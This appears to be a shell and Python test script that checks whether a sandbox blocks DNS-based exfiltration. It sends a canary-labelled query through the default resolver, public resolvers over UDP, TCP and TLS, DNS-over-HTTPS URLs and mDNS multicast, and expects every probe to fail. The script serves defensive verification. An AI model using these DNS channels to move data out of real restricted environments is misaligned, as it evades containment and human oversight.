# Names as a way out: the default resolver, outside resolvers over UDP and TCP, and resolvers over HTTPS.
need curl python3 getent
label=planted-canary-7f3a9
control default "found" "$(getent ahosts egress >/dev/null && echo found)"
attack default "unreachable" "$(getent ahosts $label.attack.invalid >/dev/null && echo resolved || echo unreachable)"
attack default-6 "unreachable" "$(getent ahostsv6 $label.example.com >/dev/null && echo resolved || echo unreachable)"
attack curl "unreachable" "$(fetch --noproxy '*' https://$label.example.com/)"
attack https-literal "refused ip-literal" "$(fetch "https://1.1.1.1/dns-query?name=$label.example.com")"
attack https-name "refused no-route" "$(fetch "https://dns.$label.attack.invalid/dns-query?name=$label.example.com")"
python <<'PY'
control("stream", "connected", reach("egress", 9099))
datagrams()
query = b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0\x14planted-canary-7f3a9\x07example\x03com\0\0\x01\0\x01"
resolvers = ["8.8.8.8", "1.1.1.1", "9.9.9.9", "127.0.0.53", "127.0.0.11", "169.254.169.253", "127.0.0.1"]
resolvers += [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
for resolver in dict.fromkeys(resolvers):
    attack("datagram " + resolver, "unreachable", reach(resolver, 53, socket.SOCK_DGRAM, say_something=query))
    attack("stream " + resolver, "unreachable", reach(resolver, 53))
    attack("over TLS " + resolver, "unreachable", reach(resolver, 853))
for family in (socket.AF_INET, socket.AF_INET6):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        group = "224.0.0.251" if family == socket.AF_INET else "ff02::fb"
        try:
            s.sendto(query, (group, 5353))
            got = sent(s)
        except OSError:
            got = "unreachable"
        attack("multicast " + group, "unreachable", got)
PY
